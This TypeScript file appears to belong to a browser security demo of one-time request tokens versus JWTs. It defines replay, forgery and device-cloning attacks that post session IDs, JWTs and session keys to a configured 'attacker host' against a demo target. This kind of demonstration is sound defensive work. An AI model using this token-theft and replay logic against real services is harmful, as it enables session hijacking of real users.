import type {
  CloneBody,
  JwtReplayBody,
  OtaForgeryBody,
  VerdictBody,
} from '@one-tick-ahead/api/contract/bodies'
import { ANSWER_LIMIT_MS, withTimeLimit } from '@one-tick-ahead/ota/client/probe'
import { joinHistory } from '@one-tick-ahead/ota/history'
import { randomUuid } from '@one-tick-ahead/ota/ids'
import { browserFetch, serverClock, useEndings } from '@/components/live-demo/demo'
import {
  NETWORK_FAILURE_STATUS,
  readCallResult,
  type SentRequest,
  whyNoAnswer,
  whyUnreached,
} from '@/components/live-demo/monitors/call-result'
import { makeCall, signerOf } from '@/components/live-demo/monitors/make-call'
import { type AttackBody, addAttackRow, type TokenKind, useRun } from '@/components/live-demo/run'
import { callSignal } from '@/components/live-demo/ticking'
import { noAnswerWords, type Outcome, outcomeOf, wordsFor } from '@/components/live-demo/words'
import { config } from '@/lib/config'
import { readUser, type UserInfo, useUser } from '@/lib/demo/store'

interface Verdict {
  outcome: Outcome
  /** The target's status, or 500 without a readable answer. */
  code: number
  message: string
  /** True if the call itself failed. */
  isError?: boolean
}

/** An attack with the secrets a thief would have. */
export interface Attack {
  /** The button's text. */
  name: string
  /** True for one of the two thefts that a single press makes. */
  isPair?: boolean
  /** Makes the body and its sender. Rejects if it cannot. */
  prepare: (signal: AbortSignal) => Promise<PreparedAttack>
}

interface PreparedAttack {
  /** Missing if nothing can be sent. */
  body?: AttackBody
  /** Never rejects. */
  send: () => Promise<Verdict>
}

/** The attacked call. */
export const targetUrl = config.targetUrls[0] ?? ''

const failed = (outcome: Outcome, message: string): Verdict => ({
  outcome,
  code: NETWORK_FAILURE_STATUS,
  message,
  isError: true,
})

/** Null unless the value is an answer of the attacker host. */
function readVerdict(value: unknown): VerdictBody | null {
  if (typeof value !== 'object' || value === null) return null
  if (!('message' in value) || typeof value.message !== 'string') return null
  if (!('statusCode' in value) || !Number.isInteger(value.statusCode)) return null
  return { message: value.message, statusCode: Number(value.statusCode) }
}

/** The attacker host's own answer when its target gave none. */
const HTTP_BAD_GATEWAY = 502

/** Sends the stolen values to the attacker host. */
const byAttacker = (
  call: keyof NonNullable<typeof config.attacker>,
  body: AttackBody,
  signal: AbortSignal,
): PreparedAttack => ({
  body,
  async send() {
    try {
      const response = await browserFetch(config.attacker?.[call] ?? '', {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        credentials: 'include',
        body: JSON.stringify(body),
        signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
      })
      const verdict = readVerdict(await response.json().catch(() => null))
      if (!verdict)
        return failed('no-verdict', 'The attacker host’s answer was unreadable. Try again.')
      const { statusCode: code, message } = verdict
      if (code === HTTP_BAD_GATEWAY)
        return failed('no-answer', 'The target did not answer. Try again.')
      return { outcome: outcomeOf(code), code, message }
    } catch {
      const isOffline = whyUnreached() === 'offline'
      const words = 'The attacker host did not answer. Try again.'
      return failed('no-answer', isOffline ? 'You are offline. Nothing was sent.' : words)
    }
  },
})

/** The body of a replay, also for its preview. */
export const jwtBody = ({ jsessionID, token }: UserInfo) =>
  ({ jsessionID, jwt: token, url: targetUrl }) satisfies JwtReplayBody

/** The body of a forgery, also for its preview; it lacks the request id. */
export const otaBody = ({ jsessionID }: UserInfo, ota: string) =>
  ({ jsessionID, ota, url: targetUrl }) satisfies OtaForgeryBody

/** Replays the JWT (spec §7, call 6). */
export const replayJwt: Attack = {
  name: 'Send Request',
  prepare: async (signal) => byAttacker('replayJwt', jwtBody(useUser.getState()), signal),
}

/** Sends a token stolen before its use, without its request id (call 7). */
export const forgeOta: Attack = {
  name: 'OTA Request',
  async prepare(signal) {
    const user = useUser.getState()
    const now = serverClock.serverNow()
    const ota = await signerOf(user.sessionkey).sign(randomUuid(), user.deviceId, now)
    return byAttacker('forgeOta', otaBody(user, ota), signal)
  },
}

/** Sends everything a script in the page could steal (call 8). */
export const cloneDevice: Attack = {
  name: 'Cloning Attack',
  async prepare(signal) {
    readUser() // another tab may have the newest send log
    const { deviceId, jsessionID, sessionkey, requestHistory } = useUser.getState()
    const body: CloneBody = {
      deviceID: deviceId,
      jsessionID,
      sessionKey: sessionkey,
      requestHistory: joinHistory(requestHistory),
      url: targetUrl,
    }
    return byAttacker('cloneDevice', body, signal)
  },
}

/** In ms: the server would refuse an older request for its age, not as a replay. */
const RECORDED_FOR_MS = 10_000

/** The newest accepted request with a token in its time window; makes one if there is none. */
async function recordRequest(signal: AbortSignal): Promise<SentRequest | undefined> {
  const { rows } = useRun.getState().monitors.ota
  const known = rows.find((row) => row.status === 200 && row.sent)?.sent
  if (known && serverClock.serverNow() - known.madeAt < RECORDED_FOR_MS) return known
  const { result, request } = await makeCall('ota', signal)
  return result.status === 200 ? request.sent : undefined
}

/** A sentence as it follows a colon. */
const asClause = (sentence: string) => sentence.charAt(0).toLowerCase() + sentence.slice(1)

/** Replays a recorded request unchanged; the browser adds the same cookies. */
async function replay({ url, headers }: SentRequest, signal: AbortSignal): Promise<Verdict> {
  try {
    const response = await browserFetch(url, {
      headers,
      credentials: 'include',
      cache: 'no-store',
      signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
    })
    const { status, code, records, noAnswer } = await readCallResult(url, response)
    if (noAnswer) return failed('no-verdict', 'The server’s answer was unreadable. Try again.')
    const message =
      status === 200
        ? `Attack succeeded: the replayed request was accepted; the thief read ${records} records.`
        : `Attack failed: ${asClause(wordsFor(code) || `The server answered ${status}.`)}`
    // A refusal for another reason does not test the second use.
    const isVerdict = status === 200 || code === 'ota_replayed'
    return { outcome: isVerdict ? outcomeOf(status) : 'no-verdict', code: status, message }
  } catch (error) {
    return failed('no-answer', `The replayed request got ${noAnswerWords[whyNoAnswer(error)]}.`)
  }
}

/** Tests one-time use alone: the replay is complete, its cookies included. */
export const replayOta: Omit<Attack, 'name'> = {
  async prepare(signal) {
    const sent = await recordRequest(signal)
    if (!sent) {
      const words = 'There was no accepted request to replay. See the OTA log.'
      return { send: async () => failed('no-verdict', words) }
    }
    const Cookie = 'session and device cookie, added by the browser'
    const { href: url } = new URL(sent.url, window.location.href)
    return { body: { url, ...sent.headers, Cookie }, send: () => replay(sent, signal) }
  },
}

/**
 * Makes an attack and adds its verdict to its panel's log, which screen readers announce.
 * @returns null, and leaves no row, if the session ended meanwhile.
 */
export async function carryOut(
  kind: TokenKind,
  { name, isPair, prepare }: Attack,
): Promise<Verdict | null> {
  const signal = callSignal()
  const prepared = await prepare(signal).catch(() => null)
  const body = prepared?.body
  if (body && !isPair && !signal.aborted) {
    useRun.setState(({ sent }) => ({ sent: { ...sent, [kind]: { name, body } } }))
  }
  const { outcome, isError, ...answer } = prepared
    ? await prepared.send()
    : failed('no-verdict', 'This browser could not make a token.')
  if (signal.aborted) return null
  // An ended session refuses every sender, so its refusal proves nothing.
  const isOver = kind === 'ota' && outcome === 'held' && useEndings.getState().ota !== null
  const verdict = { ...answer, outcome: isOver ? 'no-verdict' : outcome } as const
  addAttackRow(kind, { ...verdict, attack: name, at: Date.now(), sent: body, isPair })
  return { ...verdict, isError }
}
